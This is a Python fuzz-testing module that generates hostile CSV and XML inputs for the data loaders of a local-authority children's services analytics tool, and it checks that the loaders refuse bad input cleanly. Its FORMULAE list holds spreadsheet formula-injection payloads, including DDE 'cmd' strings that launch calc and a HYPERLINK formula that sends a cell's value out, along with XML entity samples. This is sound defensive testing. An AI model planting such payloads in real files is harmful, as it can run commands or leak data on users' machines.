"""Fuzzing every loader: what it is given (Hypothesis strategies) and what it must do.

The property, for every input: the loader gives stored rows and problems, or one
refusal whose every problem is a line; never a traceback; and a refused load changes
nothing in the store (nor the re-identification table). Two kinds of input for each
loader: structured but wrong (the right headers or elements, with hostile values:
unicode, control characters, huge cells, formulae, odd dates, XML entities, quotes
left open, every line ending and encoding), and raw bytes after a plausible start.

Used by tests/analytics/test_fuzz.py (a few hundred examples, in ``make test``) and by
benchmarks/fuzz.py (thousands per loader).
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
import uuid
from datetime import date
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

from hypothesis import strategies as st

from smeaton.analytics import reports
from smeaton.analytics.formats.spec import attendance_table, codes, ssda903_tables
from smeaton.analytics.ingest import ingest
from smeaton.analytics.problems import BatchRefused
from smeaton.analytics.published.cells import LARGEST
from smeaton.analytics.published.sources import KINDS, PublishedFileError, read
from smeaton.analytics.source import Source

LINE = 2_000  # the longest a line of a message may be: one line, not a file

# --- Cells -----------------------------------------------------------------------------

FORMULAE = ['=HYPERLINK("http://example.com/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ODD_DATES = ["31/02/2020", "00/00/0000", "1/1/99999", "29/02/2023", "01/01/1899",
             "31/12/9999", "2025-13-01", "0001-01-01", "9999-12-31", "2024-02-30",
             "01/02/2010", "1/2/2010", "2012-05-17", "2025-03-31", " 2024-06-06 ", "١٢/٠٢/٢٠١٠"]
MARKUP = ["&amp;", "&lt;", "&#10;", "&#0;", "&#x1F;", "]]>", "<![CDATA[x]]>", "&lol;", "<b>",
          "<!DOCTYPE x>", "<?pi x?>", "<!-- c -->"]
PUNCTUATION = ['"', '""', '"x', 'x"', ",", "\n", "\r", "\r\n", "\x00", "\ufeff", "\u2028",
               "\x1b[31m", "é", "Ω", "🙂", " ", "\t", "NaN", "-0", "1e999999", "null"]
NUMBERS = st.one_of(st.integers(-10**20, 10**20).map(str),
                    st.decimals(allow_nan=True, allow_infinity=True).map(str),
                    st.floats().map(str))
HUGE = st.integers(1_000, 200_000).map(lambda size: "y" * size)

hostile = st.one_of(
    st.text(max_size=12),
    st.sampled_from(FORMULAE + ODD_DATES + MARKUP + PUNCTUATION),
    NUMBERS,
    HUGE,
)


def _plausible(source: Source, column) -> st.SearchStrategy[str]:
    """Values that pass the column's checks, or nearly: so that rows get stored."""
    if column.type == "date":
        days = st.dates(min_value=date(1990, 1, 1), max_value=date(2026, 12, 31))
        shape = "%d/%m/%Y" if source == Source.SSDA903 else "%Y-%m-%d"
        return days.map(lambda day: day.strftime(shape))
    if column.type == "integer":
        return st.integers(0, 200).map(str)
    if column.type == "flag":
        return st.sampled_from(["0", "1", "true", "false"])
    if column.type == "postcode":
        return st.sampled_from(["PL1 2AB", "pl48aa", "SW1A 1AA"])
    if column.type == "upn":
        return st.sampled_from(["A123456789012", "UN1", "UN2", "B98765432109X"])
    if column.type == "code" and column.codes:
        known = sorted(codes(source, *column.codes, None)) or ["X"]
        return st.sampled_from(known)
    if column.type == "code":  # attendance
        return st.sampled_from(["M", "F", "WBRI", "N", "K", "E", "AUT", "SPR", "SUM"])
    if column.name == "LA":
        return st.just("879")
    if column.name == "AcademicYear":
        return st.just("2024/25")
    return st.sampled_from(["C1", "C2", "C3", "P1", "113456", "SW1"])


def cell(source: Source, column) -> st.SearchStrategy[str]:
    return st.one_of(_plausible(source, column), _plausible(source, column), hostile)


# --- CSV -------------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "cp1252"]
ENDINGS = ["\n", "\r\n", "\r"]


@st.composite
def csv_bytes(draw, headers: list[str], rows: list[list[str]]) -> bytes:
    """CSV as a council's system might write it, or get wrong: quoted properly or cells
    joined as they are, any line ending, any encoding, headers in any case."""
    ending = draw(st.sampled_from(ENDINGS))
    headers = [draw(st.sampled_from([name, name.lower(), f" {name} "])) for name in headers]
    if draw(st.booleans()):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator=ending).writerows([headers, *rows])
        text = buffer.getvalue()
    else:
        text = ending.join(",".join(row) for row in [headers, *rows])
        text += draw(st.sampled_from(["", ending]))
    encoding = draw(st.sampled_from(ENCODINGS))
    return text.encode(encoding, errors="replace")


@st.composite
def table_csv(draw, source: Source, spec) -> bytes:
    columns = list(spec.columns)
    if draw(st.booleans()):
        columns = draw(st.permutations(columns))
    rows = draw(st.lists(st.tuples(*[cell(source, column) for column in columns]).map(list),
                         max_size=6))
    if draw(st.integers(0, 9)) == 0:  # a cell too many or too few
        rows = [row + ["extra"] if index % 2 else row[:-1] for index, row in enumerate(rows)]
    return draw(csv_bytes([column.name for column in columns], rows))


TABLES = sorted(ssda903_tables())


@st.composite
def ssda903_csv(draw) -> dict[str, bytes]:
    """One to three SSDA903 tables, each a CSV file of hostile rows."""
    names = draw(st.lists(st.sampled_from(TABLES), min_size=1, max_size=3, unique=True))
    return {f"{name}.csv": draw(table_csv(Source.SSDA903, ssda903_tables()[name]))
            for name in names}


@st.composite
def attendance_csv(draw) -> dict[str, bytes]:
    return {"attendance.csv": draw(table_csv(Source.ATTENDANCE, attendance_table()))}


def raw_after(starts: list[bytes], name: str):
    """Random bytes after a plausible start (a header row, an XML root, a byte order
    mark), so that they get past recognising the file."""
    return st.tuples(st.sampled_from(starts), st.binary(max_size=600)).map(
        lambda parts: {name: parts[0] + parts[1]})


CSV_STARTS = [b"", b"\xef\xbb\xbf", b"\xff\xfe", b"CHILD,SEX,DOB,DUC\n",
              b"CHILD,SEX,DOB,DUC\r", b'CHILD,SEX,DOB,"DUC\n',
              b"CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,"
              b"HOME_POST,PL_POST,URN\r\n"]
ATTENDANCE_STARTS = [b"PupilID,UPN,DOB,Sex,Ethnicity,SENStatus,URN,LA,AcademicYear,Term,"
                     b"SessionsPossible,SessionsAuthorised,SessionsUnauthorised\n",
                     b"SessionsPossible\n"]
XML_STARTS = [b"", b"<?xml version='1.0'?>", b"<?xml version='1.0' encoding='UTF-16'?>",
              b"\xef\xbb\xbf<EXPSSDA903>", b"<EXPSSDA903><CHILD><HEADER>",
              b"<Message><Header>", b"<Message><Children><Child>",
              b"<!DOCTYPE Message [<!ENTITY a 'aaaa'>]><Message>"]


# --- XML -------------------------------------------------------------------------------

# Characters XML 1.0 does not allow anywhere, even escaped.
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


@st.composite
def xml_text(draw, value: str) -> str:
    """A value in an element: escaped, as it should be; or left raw, or with an entity."""
    how = draw(st.integers(0, 199))  # a document has dozens of values: most stay whole
    if how == 0:
        return value  # unescaped: may not be well-formed
    if how == 1:
        return escape(value) + draw(st.sampled_from(MARKUP))
    if how == 2:
        return escape(value)  # with any characters, some of which XML does not allow
    return escape(NOT_XML.sub("", value))


@st.composite
def element(draw, tag: str, value: st.SearchStrategy[str]) -> str:
    return f"<{tag}>{draw(xml_text(draw(value)))}</{tag}>"


def _ssda903_value(name: str):
    table = "header" if name in ("CHILD", "SEX", "DOB", "ETHNIC", "UPN", "MOTHER",
                                 "MC_DOB") else "episodes"
    spec = ssda903_tables()[table]
    column = next((c for c in spec.columns if c.name == name), None)
    return cell(Source.SSDA903, column) if column else hostile


@st.composite
def ssda903_child(draw) -> str:
    header = "".join(draw(element(tag, _ssda903_value(XML_FIELD.get(tag, tag))))
                     for tag in ("CHILDID", "SEX", "DOB", "ETHNIC", "UPN", "MOTHER", "MC_DOB",
                                 "UASC", "DUC"))
    groups = "".join(draw(st.lists(st.sampled_from([
        "<AREVIEW><REVIEW>01/05/2024</REVIEW><REVIEW_CODE>PN1</REVIEW_CODE></AREVIEW>",
        "<AMISSING><MISSING>M</MISSING><MIS_START>01/05/2024</MIS_START></AMISSING>",
        "<OC2><SDQ_SCORE>41</SDQ_SCORE></OC2>", "<UNKNOWN>1</UNKNOWN>", "<X><Y/></X>"]),
        max_size=3)))
    episodes = "".join(
        "<EPISODE>" + "".join(draw(element(tag, _ssda903_value(tag)))
                              for tag in ("DECOM", "RNE", "LS", "CIN", "PL", "DEC", "REC"))
        + "</EPISODE>" for _ in range(draw(st.integers(0, 3))))
    return f"<CHILD><HEADER>{header}{groups}</HEADER>{episodes}</CHILD>"


XML_FIELD = {"CHILDID": "CHILD"}


@st.composite
def ssda903_xml(draw) -> dict[str, bytes]:
    children = "".join(draw(st.lists(ssda903_child(), max_size=4)))
    text = f"<?xml version='1.0' encoding='UTF-8'?><EXPSSDA903>{children}</EXPSSDA903>"
    return {"ssda903.xml": text.encode("utf-8", errors="surrogatepass")}


def sometimes(strategy: st.SearchStrategy, usual: str) -> st.SearchStrategy:
    """Mostly ``usual``, one time in ten from ``strategy``."""
    return st.integers(0, 9).flatmap(lambda n: strategy if n == 0 else st.just(usual))


CIN_DATE = st.one_of(st.dates().map(str), st.sampled_from(ODD_DATES), hostile)
CIN_CODE = st.one_of(st.sampled_from(["M", "F", "WBRI", "N1", "1A", "RC1", "NEG", "1C", "HAND",
                                      "0", "1", "true"]), hostile)
CIN_ID = st.one_of(st.sampled_from(["C1", "C2", "C3"]), hostile)


@st.composite
def cin_child(draw) -> str:
    identifiers = "".join([
        draw(element("LAchildID", CIN_ID)), draw(element("UPN", CIN_CODE)),
        draw(element("PersonBirthDate", CIN_DATE)),
        draw(element(draw(st.sampled_from(["Sex", "GenderCurrent"])), CIN_CODE))])
    details = []
    for _ in range(draw(st.integers(0, 2))):
        parts = [draw(element("CINreferralDate", CIN_DATE)),
                 draw(element("ReferralSource", CIN_CODE)),
                 draw(element("PrimaryNeedCode", CIN_CODE)),
                 draw(element("CINclosureDate", CIN_DATE)),
                 draw(element("ReferralNFA", CIN_CODE))]
        parts += draw(st.lists(st.sampled_from([
            "<Assessments><AssessmentActualStartDate>2024-06-07</AssessmentActualStartDate>"
            "<FactorsIdentifiedAtAssessment><AssessmentFactors>1C</AssessmentFactors>"
            "</FactorsIdentifiedAtAssessment></Assessments>",
            "<ChildProtectionPlans><CPPstartDate>2024-07-01</CPPstartDate><Reviews>"
            "<CPPreviewDate>2024-09-01</CPPreviewDate><Other/></Reviews></ChildProtectionPlans>",
            "<Section47><S47ActualStartDate>2024-06-10</S47ActualStartDate></Section47>",
            "<CINPlanDates><CINPlanStartDate>x</CINPlanStartDate></CINPlanDates>",
            "<Stray>text</Stray>", "loose text"]), max_size=3))
        details.append("<CINdetails>" + "".join(parts) + "</CINdetails>")
    disabilities = "".join(draw(element("Disability", CIN_CODE))
                           for _ in range(draw(st.integers(0, 2))))
    return (f"<Child><ChildIdentifiers>{identifiers}</ChildIdentifiers><ChildCharacteristics>"
            f"{draw(element('Ethnicity', CIN_CODE))}<Disabilities>{disabilities}"
            f"</Disabilities></ChildCharacteristics>{''.join(details)}</Child>")


@st.composite
def cin_xml(draw) -> dict[str, bytes]:
    lea = draw(sometimes(hostile, "879"))
    year = draw(sometimes(hostile, "2025"))
    reference = draw(sometimes(CIN_DATE, "2025-03-31"))
    children = "".join(draw(st.lists(cin_child(), max_size=4)))
    text = (f"<?xml version='1.0' encoding='UTF-8'?><Message><Header><CollectionDetails>"
            f"<Collection>CIN</Collection>{draw(element('Year', st.just(year)))}"
            f"{draw(element('ReferenceDate', st.just(reference)))}</CollectionDetails>"
            f"<Source>{draw(element('LEA', st.just(lea)))}</Source></Header>"
            f"<Children>{children}</Children></Message>")
    return {"cin.xml": text.encode("utf-8", errors="surrogatepass")}


# --- Published files ---------------------------------------------------------------------

PUBLISHED_VALUES = st.one_of(st.sampled_from(["12", "22.6", "1,234", "c", "x", "z", "low", "-",
                                              ":", "~", "", "NA", "1e999999", "NaN", "-0",
                                              "99999999999", "0.00001"]), NUMBERS, hostile)
EES = next(kind for kind in KINDS if kind.name == "ees-cin-referrals")


@st.composite
def ees_csv(draw) -> dict[str, bytes]:
    headers = ["time_period", "time_identifier", "geographic_level", "country_code",
               "region_code", "old_la_code", "referral_count", "rereferral_count",
               "rereferral_percent"]
    rows = draw(st.lists(st.tuples(
        st.one_of(st.sampled_from(["2025", "202425", "2023/24", "2018 (Rev)", "2014-16"]),
                  hostile),
        st.sampled_from(["Financial year", "Calendar year"]),
        st.one_of(st.sampled_from(["National", "Regional", "Local authority"]), hostile),
        st.just("E92000001"),
        st.one_of(st.sampled_from(["E12000009", "E12000001", ""]), hostile),
        st.one_of(st.sampled_from(["879", "940 / 941", "999", ""]), hostile),
        PUBLISHED_VALUES, PUBLISHED_VALUES, PUBLISHED_VALUES).map(list), max_size=6))
    return {"ees.csv": draw(csv_bytes(headers, rows))}


@st.composite
def lait_csv(draw) -> dict[str, bytes]:
    headers = ["Short Desc", "Data item", "Years", "LA and Regions", "Values", "LA Number",
               "Region"]
    rows = draw(st.lists(st.tuples(
        st.one_of(st.sampled_from(sorted(next(k for k in KINDS if k.lait).lait)), hostile),
        st.just("an item"),
        st.one_of(st.sampled_from(["2016", "2016-17", "2015/16", "2016/2017", "2013/14-15/16"]),
                  hostile),
        st.just("Plymouth"), PUBLISHED_VALUES,
        st.one_of(st.sampled_from(["879", "921", "970", "1", "0"]), hostile),
        st.just("South West")).map(list), max_size=6))
    return {"lait.csv": draw(csv_bytes(headers, rows))}


EES_STARTS = [b"time_period,time_identifier,geographic_level,country_code,region_code,"
              b"old_la_code,referral_count,rereferral_count,rereferral_percent\n"]
LAIT_STARTS = [b"Short Desc,Data item,Years,LA and Regions,Values,LA Number,Region\r\n"]


# --- The properties ----------------------------------------------------------------------

def one_line(message: str) -> None:
    assert "\n" not in message and "\r" not in message, repr(message[:200])
    assert len(message) <= LINE, f"a line of {len(message):,} characters"


class Ingesting:
    """A Smeaton home and a store holding one return already, to load each input into."""

    def __init__(self, root: Path):
        self.root = root
        self.store = root / "store"
        self.home = root / "home"  # the caller sets SMEATON_HOME to it
        seed = root / "seed" / "879" / "2025"
        seed.mkdir(parents=True)
        (seed / "uasc.csv").write_text("CHILD,SEX,DOB,DUC\nC1,1,01/02/2010,\n")
        ingest([seed], self.store)
        self.outcomes: dict[str, int] = {}

    def snapshot(self) -> dict[str, str]:
        held = {}
        for folder in (self.store, self.home):
            for path in sorted(folder.rglob("*")):
                if path.is_file() and path.name != ".lock":
                    held[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        return held

    def load(self, files: dict[str, bytes]) -> str:
        """Load the files as one return for LA 879, 2025: 'stored' or 'refused'."""
        folder = self.root / "in" / uuid.uuid4().hex / "879" / "2025"
        folder.mkdir(parents=True)
        for name, data in files.items():
            (folder / name).write_bytes(data)
        before = self.snapshot()
        try:
            result = ingest([folder], self.store, la_code="879", year=2025)
        except BatchRefused as refused:
            for problem in refused.problems:
                one_line(str(problem))
            assert self.snapshot() == before, "a refused load changed the store"
            outcome = "refused"
        else:
            for summary in result.summaries:
                assert summary.rows_in == summary.rows_stored + summary.rows_rejected
            for problem in result.problems:
                one_line(str(problem))
            written = reports.write(result, self.root / "reports")
            reports.summary(result, written).encode("utf-8")
            outcome = "stored"
        finally:
            shutil.rmtree(folder.parents[1])
        self.outcomes[outcome] = self.outcomes.get(outcome, 0) + 1
        return outcome


class Publishing:
    """DfE's published files, read as `smeaton published load` reads them."""

    def __init__(self, root: Path):
        self.root = root
        self.outcomes: dict[str, int] = {}

    def load(self, files: dict[str, bytes]) -> str:
        ((name, data),) = files.items()
        path = self.root / f"{uuid.uuid4().hex}-{name}"
        path.write_bytes(data)
        try:
            reading = read(path)
        except PublishedFileError as refused:
            for problem in refused.problems:
                one_line(str(problem))
            for line in str(refused).splitlines():
                assert len(line) <= LINE
            outcome = "refused"
        else:
            for observation in reading.observations:
                for value in (observation.value, observation.count):
                    # What the database holds: 14 digits, 4 of them decimal places.
                    assert value is None or abs(value) < LARGEST
                    if value is not None:
                        value.quantize(Decimal("0.0001"))
                assert 0 <= observation.year <= 32767
            outcome = "loaded"
        finally:
            path.unlink()
        self.outcomes[outcome] = self.outcomes.get(outcome, 0) + 1
        return outcome


# Each loader: its harness, structured input and raw input.
LOADERS = {
    "ssda903-csv": (Ingesting, ssda903_csv(), raw_after(CSV_STARTS, "table.csv")),
    "ssda903-xml": (Ingesting, ssda903_xml(), raw_after(XML_STARTS, "ssda903.xml")),
    "cin-xml": (Ingesting, cin_xml(), raw_after(XML_STARTS, "cin.xml")),
    "attendance-csv": (Ingesting, attendance_csv(), raw_after(ATTENDANCE_STARTS,
                                                               "attendance.csv")),
    "ees-csv": (Publishing, ees_csv(), raw_after(EES_STARTS, "ees.csv")),
    "lait-csv": (Publishing, lait_csv(), raw_after(LAIT_STARTS, "lait.csv")),
}
